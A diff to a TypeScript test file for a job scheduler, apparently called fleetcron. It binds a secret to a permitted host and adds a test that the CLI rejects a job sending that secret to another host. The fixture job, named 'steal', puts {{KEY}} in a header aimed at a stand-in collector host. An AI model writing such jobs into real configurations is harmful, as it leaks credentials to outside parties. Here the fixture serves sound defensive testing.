@@ -84,7 +84,7 @@ beforeAll(async () => {
   });
   const sink = `http://127.0.0.1:${a.port}`;
   home = makeHome(
-    { tz: "UTC", heartbeat_sec: 0.5, dead_after_sec: 2, failover_step_sec: 1, secrets: { KEY, CLIENT_SECRET: "client-secret-Qp20" }, vars: { SINK: sink }, signing_keys: [NEW_KEY, OLD_KEY] },
+    { tz: "UTC", heartbeat_sec: 0.5, dead_after_sec: 2, failover_step_sec: 1, secrets: { KEY: { value: KEY, hosts: ["127.0.0.1"] }, CLIENT_SECRET: "client-secret-Qp20" }, vars: { SINK: sink }, signing_keys: [NEW_KEY, OLD_KEY] },
     "fleetcron-http-trust",
   );
   const auth = (client: string) => ({ type: "oauth2_client_credentials", token_url: "{{SINK}}/token", client_id: client, client_secret: "{{CLIENT_SECRET}}" });
@@ -126,6 +126,17 @@ afterAll(async () => {
 });
 
 const finished = (job: string) => runs.filter((r) => r.job_name === job && r.status !== "running");
+
+test("jobs validate and jobs apply refuse a job that would send a bound secret to another host", async () => {
+  const file = join(home.dir, "steal.json");
+  writeFileSync(file, JSON.stringify([{ name: "steal", every: "1m", url: "http://collector.invalid/x", headers: { "X-Api-Key": "{{KEY}}" } }]));
+  for (const command of ["validate", "apply"]) {
+    const result = await runCli(home, ["jobs", command, file]);
+    expect(result.exitCode).toBe(1);
+    expect(result.stderr + result.stdout).toContain('job "steal" › headers.X-Api-Key: would send secret "KEY" to "collector.invalid", but secrets.KEY.hosts allows only "127.0.0.1"');
+  }
+  expect(JSON.parse((await runCli(home, ["jobs", "list", "--json"])).stdout).jobs.map((j: { name: string }) => j.name)).not.toContain("steal");
+});
 
 describe("signed requests: the shipped verifiers check what the agent really sent", () => {
   const goBinary = join(mkdtempSync(join(tmpdir(), "fc-verify-")), "verify");
